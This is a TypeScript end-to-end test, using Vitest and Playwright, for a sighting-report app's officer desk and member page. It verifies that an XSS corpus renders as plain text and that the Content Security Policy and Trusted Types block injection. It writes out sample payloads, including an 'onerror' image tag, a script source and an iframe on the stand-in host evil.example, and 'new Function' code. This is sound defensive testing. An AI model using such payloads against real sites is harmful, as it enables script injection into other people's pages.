// Markup sent through the API into the desk of a real browser: it stays letters, nothing asks, nothing is reported. And
// the policy that stands behind it is there: what tries to become markup or code is stopped, and the server hears of it.
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import corpus from '../fixtures/xss-corpus.json' with { type: 'json' };
import { anOperation, enrolByCode, freshKey, submit, type Phone } from '../server/phone';
import { OFFICE, openBrowser, PHONE, type TestBrowser } from './support/browser';
import { officerOf, openDesk } from './support/journey';
import { setStage, type Stage } from './support/stage';

/** 「その他のサイン」 and 「自由記述」 of the flow sheet. */
const OTHER_SIGN_MAX = 40;
const FREE_TEXT_MAX = 200;

let stage: Stage;
let office: TestBrowser;
let phone: Phone;
let desk: Page;
const dialogs: string[] = [];
const foreign: string[] = [];

beforeAll(async () => {
  stage = await setStage();
  office = await openBrowser(OFFICE);
  const settled = () => new Promise<void>((resolve) => setTimeout(resolve, 50));
  phone = await enrolByCode(stage.origin, stage.codes[0]!, {
    key: freshKey(),
    now: () => new Date(),
    settled,
  });
});
afterAll(async () => {
  await office?.close();
  await stage?.close();
});

const touched = (page: Page) => page.evaluate(() => '__xss' in globalThis);

describe('a corpus of markup', () => {
  it('goes in through the API as what members and officers write', async () => {
    const officer = await officerOf(stage);
    for (const words of corpus) {
      const sighting = submit({
        freeText: words.slice(0, FREE_TEXT_MAX),
        otherSign: words.slice(0, OTHER_SIGN_MAX),
      });
      const more = anOperation('sighting.supplement', { recordId: sighting.id, text: words });
      const results = await phone.sync(sighting, more);
      expect(results.map(({ outcome }) => outcome)).toEqual(['accepted', 'accepted']);
    }
    await expect
      .poll(async () => (await officer.inbox()).filter((row) => row.contents === 'opened').length, {
        timeout: 20_000,
      })
      .toBe(corpus.length);
    for (const row of await officer.inbox()) {
      const words = (await officer.open(row.recordId)).sighting?.freeText ?? '';
      await officer.act(row.recordId, { kind: 'assign' });
      await officer.act(row.recordId, { kind: 'note', text: words });
      await officer.act(row.recordId, {
        kind: 'instruct',
        template: 'T01',
        text: words,
        numbers: [],
        questions: [],
      });
    }
  });

  it('is letters in every case an officer opens: no dialog, no element, no request elsewhere, no report', async () => {
    const officer = await officerOf(stage);
    desk = await openDesk(office.context, stage);
    desk.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    desk.on('request', (request) => {
      if (!request.url().startsWith(stage.origin)) foreign.push(request.url());
    });
    for (const { recordId } of await officer.inbox()) {
      const words = (await officer.open(recordId)).sighting?.freeText ?? '';
      await desk.goto(`${stage.origin}/desk/cases/${recordId}`);
      await desk.getByText(words, { exact: false }).first().waitFor();
      const made = await desk.evaluate(
        () =>
          document.querySelectorAll('script:not([type=module]),iframe,object,embed,[onerror],[onload]')
            .length,
      );
      expect(made, words).toBe(0);
      expect(await touched(desk), words).toBe(false);
    }
    expect(dialogs).toEqual([]);
    expect(foreign).toEqual([]);
    expect(office.complaints).toEqual([]);
    expect(stage.log()).not.toContain('csp-report');
  });

  it('leaves none of its words in the log of the server', () => {
    for (const words of ['__xss', 'evil.example', 'onerror']) expect(stage.log()).not.toContain(words);
  });
});

describe('the policy behind it', () => {
  it.each([
    ['desk', '/desk'],
    ["member's page", '/'],
  ])(
    'of the %s stops markup made of text, code made of text and scripts from elsewhere, and reports each',
    async (_page, path) => {
      const browser = await openBrowser(PHONE);
      const page = await browser.context.newPage();
      await page.goto(stage.origin + path);
      await page.waitForTimeout(1_500);
      const before = stage.log().split('"csp-report"').length;
      const outcome = await page.evaluate(async () => {
        const tried = (run: () => void) => {
          try {
            run();
            return 'went through';
          } catch (error) {
            return error instanceof Error ? error.name : 'stopped';
          }
        };
        const script = document.createElement('script');
        return {
          html: tried(
            () => (document.createElement('div').innerHTML = '<img src=x onerror=globalThis.__xss=1>'),
          ),
          source: tried(() => (script.src = 'https://evil.example/x.js')),
          text: tried(() => (script.textContent = 'globalThis.__xss=1')),
          // Later, because what a test runs by itself may do what the page may not.
          code: await new Promise((resolve) =>
            setTimeout(() => resolve(tried(() => void new Function('globalThis.__xss=1')()))),
          ),
          policy: tried(() => {
            const types = (
              globalThis as { trustedTypes?: { createPolicy(name: string, rules: object): void } }
            ).trustedTypes;
            types?.createPolicy('mine', {});
          }),
        };
      });
      expect(outcome).toEqual({
        html: 'TypeError',
        source: 'TypeError',
        text: 'TypeError',
        code: 'EvalError',
        policy: 'TypeError',
      });
      await page.evaluate(() => {
        const frame = document.createElement('iframe');
        frame.src = 'https://evil.example/?name=山田';
        document.body.append(frame);
      });
      await expect
        .poll(() => stage.log().split('"csp-report"').length, { timeout: 10_000 })
        .toBeGreaterThan(before + 4);
      expect(stage.log()).toContain('"blocked":"trusted-types-sink"');
      expect(stage.log()).not.toContain('evil.example');
      expect(await touched(page)).toBe(false);
      await browser.close();
    },
  );
});
